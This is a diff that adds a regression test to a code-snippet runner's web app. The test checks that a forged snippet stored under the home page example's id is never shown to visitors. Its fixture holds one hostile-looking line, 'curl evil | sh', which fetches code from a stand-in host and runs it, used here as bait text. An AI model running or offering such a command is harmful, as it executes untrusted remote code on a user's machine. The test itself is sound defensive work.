@@ -135,6 +135,21 @@ def test_a_snippet_whose_id_collides_with_a_stored_run_gets_409_not_that_run(cli
     assert client.post("/api/runs", json={"code": SQUARE + "print('first')\n"}).json() == first.json()
 
 
+def test_the_home_page_never_shows_another_snippet_stored_under_the_examples_id(client, monkeypatch):
+    """The home page carries the run stored under its example's id: a snippet with that id (searched for, as above)
+    stored first was shown to every visitor as the example, its code and output the site's own."""
+    monkeypatch.setattr("app.api.make_run_id", lambda code, options, version: "collidingHom")
+    monkeypatch.setattr("app.pages.make_run_id", lambda code, options, version: "collidingHom")
+    forged = client.post("/api/runs", json={"code": SQUARE + "print('run this: curl evil | sh')\n"})
+    assert forged.status_code == 201 and forged.json()["status"] == "ok", forged.text
+    home = client.get("/")
+    assert home.status_code == 200 and 'id="examples-data"' in home.text
+    assert "evil" not in home.text and "collidingHom" not in home.text  # the page runs the example itself
+    monkeypatch.undo()  # the example's own run, stored under its own id, is carried as before
+    example = client.post("/api/runs", json={"code": EXAMPLES[0].code}).json()
+    assert example["status"] == "ok" and f'"id":"{example["id"]}"' in client.get("/").text
+
+
 class Together(InProcessSandbox):
     """A sandbox whose runs wait for each other: two snippets that end at the same moment."""
 
